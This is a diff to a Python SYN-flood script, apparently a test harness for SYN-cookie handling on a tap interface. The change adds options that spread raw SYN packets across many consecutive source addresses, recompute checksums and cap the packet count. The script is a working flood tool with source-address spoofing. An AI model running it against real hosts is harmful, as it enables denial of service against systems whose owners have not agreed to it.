@@ -3,6 +3,7 @@
 
 usage: synflood.py --iface IF --src ADDR --dst ADDR --dport PORT --dst-mac MAC
                    [--sports 61000-65535] [--pps 5000] [--seconds 10]
+                   [--srcs N] [--count N]
 
 Sends SYNs (MSS, SACK-permitted, timestamps, window scale: what a Linux
 client offers, so SYN cookies have options to encode) from ADDR, cycling
@@ -11,7 +12,9 @@ time, at about --pps for --seconds.  The frame is built once with scapy and
 then only its port, ISN, TSval and TCP checksum change, written to an
 AF_PACKET socket, so the rate is not limited by scapy.  The caller keeps its
 own kernel from answering the SYN-ACKs with RSTs (an nftables rule for
-those source ports) when the half-open state must stay.  Prints
+those source ports) when the half-open state must stay.  --srcs N spreads
+the SYNs over N consecutive source addresses from ADDR (many clients);
+--count N stops after N SYNs.  Prints
 {"sent": N, "seconds": S} at the end (also on SIGTERM).
 """
 import argparse
@@ -46,7 +49,10 @@ def main():
     ap.add_argument('--sports', default='61000-65535')
     ap.add_argument('--pps', type=float, default=5000)
     ap.add_argument('--seconds', type=float, default=10)
+    ap.add_argument('--srcs', type=int, default=1)
+    ap.add_argument('--count', type=int, default=0)
     a = ap.parse_args()
+    src0 = struct.unpack('!I', socket.inet_aton(a.src))[0]
     conf.verb = 0
     lo, hi = (int(x) for x in a.sports.split('-'))
     frame = bytearray(raw(
@@ -59,7 +65,7 @@ def main():
     tlen = len(frame) - t
     ts_off = t + 20 + 4 + 2 + 2               # MSS(4) SAckOK(2) kind+len of TS(2)
     assert frame[ts_off - 2] == 8, 'timestamp option not where expected'
-    pseudo = socket.inet_aton(a.src) + socket.inet_aton(a.dst) + struct.pack('!BBH', 0, 6, tlen)
+    pseudo = bytearray(socket.inet_aton(a.src) + socket.inet_aton(a.dst) + struct.pack('!BBH', 0, 6, tlen))
 
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     s.bind((a.iface, 0))
@@ -70,7 +76,13 @@ def main():
     t0 = time.monotonic()
     gap = 1.0 / a.pps if a.pps > 0 else 0
     nxt = t0
-    while not stop and time.monotonic() - t0 < a.seconds:
+    while not stop and time.monotonic() - t0 < a.seconds and (not a.count or sent < a.count):
+        if a.srcs > 1:
+            src = struct.pack('!I', src0 + sent % a.srcs)
+            frame[26:30] = src
+            pseudo[0:4] = src
+            struct.pack_into('!H', frame, 24, 0)
+            struct.pack_into('!H', frame, 24, csum(bytes(frame[14:t])))
         struct.pack_into('!H', frame, t, port)
         struct.pack_into('!I', frame, t + 4, rnd.getrandbits(32))
         struct.pack_into('!I', frame, ts_off, rnd.getrandbits(32))
@@ -81,7 +93,8 @@ def main():
             sent += 1
         except OSError:
             time.sleep(0.001)  # the tap is full: let it drain
-        port = lo if port >= hi else port + 1
+        if a.srcs <= 1 or sent % a.srcs == 0:
+            port = lo if port >= hi else port + 1
         if gap:
             nxt += gap
             d = nxt - time.monotonic()
